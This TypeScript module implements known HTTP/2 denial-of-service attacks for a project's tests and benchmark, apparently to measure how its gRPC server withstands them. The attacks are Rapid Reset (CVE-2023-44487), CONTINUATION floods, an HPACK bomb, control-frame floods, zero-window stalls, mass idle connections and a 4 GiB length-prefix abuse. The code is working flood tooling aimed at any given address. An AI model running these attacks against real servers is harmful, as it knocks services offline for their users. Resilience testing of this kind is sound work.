// The known HTTP/2 attacks on a server, each as a function the attack tests and the bench share:
// it connects to host:port, attacks for at most `durationMs` (less once the server closes the
// connection, or when `signal` aborts), and says what the server did. Each attack is one
// connection (5,000 for the idle one), as the table measured them.
import { grpcMessage } from './grpc-frames.js'
import {
  byteSource,
  continuationFrame,
  dataFrame,
  DEFAULT_MAX_FRAME,
  frame,
  FrameType,
  grpcRequestBlock,
  H2Peer,
  headerFieldOfSize,
  headersFrame,
  hpackBomb,
  openSocket,
  pingFrame,
  rstStreamFrame,
  Setting,
  sleep,
  type Goaway,
} from './h2-attacker.js'

const HEALTH_CHECK = '/grpc.health.v1.Health/Check'
const HEALTH_WATCH = '/grpc.health.v1.Health/Watch'
// About what one write of a flood carries, so that the attacker gives the event loop a turn often.
const CHUNK_BYTES = 64 * 1024

export interface AttackOptions {
  durationMs: number
  /** Ends the attack early: the tests' and bench's guard against a victim growing without bound. */
  signal?: AbortSignal
}

export interface AttackOutcome {
  /** How long the attack ran, ms. */
  ms: number
  /** Bytes the attacker wrote. */
  sent: number
  /** The first GOAWAY the server sent, if one came. */
  goaway?: Goaway
  /** When the server closed the connection, ms from the start, if it did. */
  closedAtMs?: number
  /** What else the attack saw, in words, for the report. */
  notes: string
  /** Attacks through the gateway: how many of its answers had each HTTP status ('no answer': none within the hang guard). */
  statuses?: Record<string, number>
}

export type Attack = (address: string, opts: AttackOptions) => Promise<AttackOutcome>

/** `frames` repeated to about CHUNK_BYTES, for floods that write the same frames over and over. */
function repeated(frames: Buffer): Buffer {
  return Buffer.concat(Array(Math.max(1, Math.floor(CHUNK_BYTES / frames.length))).fill(frames))
}

/** What `peer` saw, the attack having run `ms`; closes the connection. */
function outcome(peer: H2Peer, sent: number, notes: string, ms = peer.elapsedMs()): AttackOutcome {
  const { goaway, closedAtMs } = peer
  peer.close()
  return { ms, sent, goaway, closedAtMs, notes }
}

/** Whether a flood goes on: not aborted, and no GOAWAY yet (the server takes no new streams after it). */
const goingOn = (peer: H2Peer, signal?: AbortSignal) => !signal?.aborted && !peer.goaway

/** CVE-2023-44487: a stream opened and cancelled at once, over and over, 100 of them a write. */
export function rapidReset(path = HEALTH_CHECK): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address)
    const block = grpcRequestBlock(path)
    let id = 1
    const sent = await peer.flood(() => {
      if (!goingOn(peer, signal)) return undefined
      const frames: Buffer[] = []
      for (let i = 0; i < 100; i++, id += 2) frames.push(headersFrame(id, block), rstStreamFrame(id))
      return Buffer.concat(frames)
    }, peer.startedAt + durationMs)
    return outcome(peer, sent, `${(id - 1) / 2} streams opened and reset`)
  }
}

/**
 * A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames forever,
 * either full ones (`frameBytes` 16,384, each a whole literal header field, so the block stays
 * valid as it grows) or empty ones (`frameBytes` 0).
 */
export function continuationFlood(frameBytes: number, path = HEALTH_CHECK): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address)
    // No frame may come between the block's pieces, an acknowledgement neither.
    await peer.settled
    peer.answerControl = false
    await peer.send(headersFrame(1, grpcRequestBlock(path), { endHeaders: false }))
    const chunk = repeated(continuationFrame(1, frameBytes ? headerFieldOfSize(frameBytes) : Buffer.alloc(0)))
    const sent = await peer.flood(() => (goingOn(peer, signal) ? chunk : undefined), peer.startedAt + durationMs)
    return outcome(peer, sent, `${Math.round(sent / (9 + frameBytes))} CONTINUATION frames`)
  }
}

/** Requests whose header block of under 16 KB decodes to ~48 MB: hpackBomb's table entry, referenced ~12,000 times. */
export function hpackBombFlood(path = HEALTH_CHECK): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address)
    const request = grpcRequestBlock(path)
    const block = Buffer.concat([request, hpackBomb(0)])
    const bomb = Buffer.concat([request, hpackBomb(DEFAULT_MAX_FRAME - block.length)])
    let id = 1
    const sent = await peer.flood(() => {
      if (!goingOn(peer, signal)) return undefined
      const frames: Buffer[] = []
      for (let i = 0; i < 4; i++, id += 2) frames.push(headersFrame(id, bomb, { endStream: true }))
      return Buffer.concat(frames)
    }, peer.startedAt + durationMs)
    const decodedKb = (bomb.length - block.length) * 4
    return outcome(
      peer,
      sent,
      `${(id - 1) / 2} requests of ${decodedKb} KB of headers each; ${peer.ended.size} answered or reset`,
    )
  }
}

/** Control frames that each ask for an acknowledgement, from a peer that never reads its socket. */
export function controlFlood(kind: 'SETTINGS' | 'PING'): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address, [], { reading: false })
    const one = kind === 'SETTINGS' ? frame(FrameType.SETTINGS, 0, 0) : pingFrame()
    const chunk = repeated(one)
    const sent = await peer.flood(() => (signal?.aborted ? undefined : chunk), peer.startedAt + durationMs)
    const ms = peer.elapsedMs()
    // Only now does the attacker look at what came back: a GOAWAY, if the server sent one, is
    // behind whatever acknowledgements it wrote first.
    peer.startReading()
    await peer.waitForClose(2000)
    return outcome(peer, sent, `${Math.round(sent / one.length)} ${kind} frames`, ms)
  }
}

/**
 * A client whose stream windows are 0 (SETTINGS_INITIAL_WINDOW_SIZE 0) asks for large answers,
 * `request` at `path`, on up to `streams` streams, and a health Watch, and never opens a window:
 * a compliant server sends no DATA at all, and must not hold every answer in memory.
 */
export function zeroWindowStall(path: string, request: Buffer, streams = 1000): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address, [[Setting.INITIAL_WINDOW_SIZE, 0]])
    const deadline = peer.startedAt + durationMs
    const body = grpcMessage(request)
    await peer.send(
      Buffer.concat([
        headersFrame(1, grpcRequestBlock(HEALTH_WATCH)),
        dataFrame(1, grpcMessage(Buffer.alloc(0)), true),
      ]),
    )
    let id = 3
    const sent = await peer.flood(() => {
      if (!goingOn(peer, signal) || id > 2 * streams + 1) return undefined
      const frames: Buffer[] = []
      for (let i = 0; i < 10; i++, id += 2)
        frames.push(headersFrame(id, grpcRequestBlock(path)), dataFrame(id, body, true))
      return Buffer.concat(frames)
    }, deadline)
    await Promise.race([peer.closed, sleep(deadline - performance.now()), aborted(signal)])
    const refused = [...peer.ended.values()].filter((how) => how !== 'END_STREAM').length
    return outcome(
      peer,
      sent,
      `${(id - 3) / 2} requests; ${refused} streams reset; ${peer.dataBytes} DATA bytes received (a compliant server sends none)`,
    )
  }
}

/**
 * One stream carrying `requests`, each a whole gRPC request in a DATA frame with END_STREAM:
 * everything after the first END_STREAM is a stream error (STREAM_CLOSED), never another call.
 */
export function dataAfterEndStream(path: string, requests: Buffer[]): Attack {
  return async (address, { durationMs }) => {
    const peer = await H2Peer.connect(address)
    const frames = requests.map((r) => dataFrame(1, grpcMessage(r), true))
    const sent = Buffer.concat([headersFrame(1, grpcRequestBlock(path)), ...frames])
    await peer.send(sent)
    // Long enough for the answer and a reset; the caller then looks at what was stored.
    await Promise.race([peer.closed, sleep(Math.min(durationMs, 2000))])
    return outcome(
      peer,
      sent.length,
      `stream 1 ended by ${peer.ended.get(1) ?? 'nothing'}; frames received ${JSON.stringify(peer.received)}`,
    )
  }
}

/** `count` connections held open without a request: half send the preface and SETTINGS, half send nothing. */
export function idleConnections(count = 5000): Attack {
  return async (address, { durationMs, signal }) => {
    const start = performance.now()
    const greeting: H2Peer[] = []
    const silent: H2Peer[] = []
    let failed = 0
    for (let i = 0; i < count && !signal?.aborted; i += 100) {
      const batch = Array.from({ length: Math.min(100, count - i) }, (_, j) => j % 2 === 0)
      const peers = await Promise.allSettled(
        batch.map(async (greets) =>
          greets ? H2Peer.connect(address) : new H2Peer(await openSocket(address), { answerControl: false }),
        ),
      )
      peers.forEach((p, j) => {
        if (p.status === 'fulfilled') (batch[j] ? greeting : silent).push(p.value)
        else failed++
      })
    }
    const opened = performance.now() - start
    await Promise.race([sleep(start + durationMs - performance.now()), aborted(signal)])
    const ms = performance.now() - start
    const all = [...greeting, ...silent]
    const closedAt = all.filter((p) => p.isClosed).map((p) => p.closedAtMs! + p.startedAt - start)
    const closed = (peers: H2Peer[]) => peers.filter((p) => p.isClosed).length
    const goaways = all.filter((p) => p.goaway).length
    for (const p of all) p.close()
    return {
      ms,
      sent: 0,
      closedAtMs: closedAt.length ? Math.min(...closedAt) : undefined,
      notes:
        `${all.length} connected in ${Math.round(opened)} ms, ${failed} refused; closed by the server: ` +
        `${closed(greeting)} of ${greeting.length} that sent the preface (${goaways} with a GOAWAY), ${closed(silent)} of ${silent.length} that sent nothing`,
    }
  }
}

/**
 * Requests on `streams` streams whose gRPC length prefix claims 4 GiB (0xffffffff bytes), then
 * as many bytes as the server's windows let through: a server refuses the message from its
 * prefix, rather than reading it.
 */
export function lengthPrefix4GiB(path: string, streams = 4): Attack {
  return async (address, { durationMs, signal }) => {
    const peer = await H2Peer.connect(address)
    const deadline = peer.startedAt + durationMs
    const prefix = Buffer.from([0, 0xff, 0xff, 0xff, 0xff])
    const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1)
    await peer.send(Buffer.concat(ids.map((id) => headersFrame(id, grpcRequestBlock(path)))))
    // Once the server has answered a stream, more of its request is pointless.
    const stop = (id: number) => () => signal?.aborted === true || performance.now() > deadline || peer.ended.has(id)
    const accepted = await Promise.all(
      ids.map((id) =>
        peer.sendWindowed(id, byteSource(prefix, Buffer.alloc(DEFAULT_MAX_FRAME), 2 ** 32 + 4), stop(id)),
      ),
    )
    const sent = accepted.reduce((a, b) => a + b, 0)
    const ended = ids.map((id) => peer.ended.get(id) ?? 'open')
    return outcome(peer, sent, `bytes accepted per stream ${accepted.join(', ')}; streams ended by ${ended.join(', ')}`)
  }
}

function aborted(signal?: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (!signal) return
    if (signal.aborted) resolve()
    else signal.addEventListener('abort', () => resolve(), { once: true })
  })
}
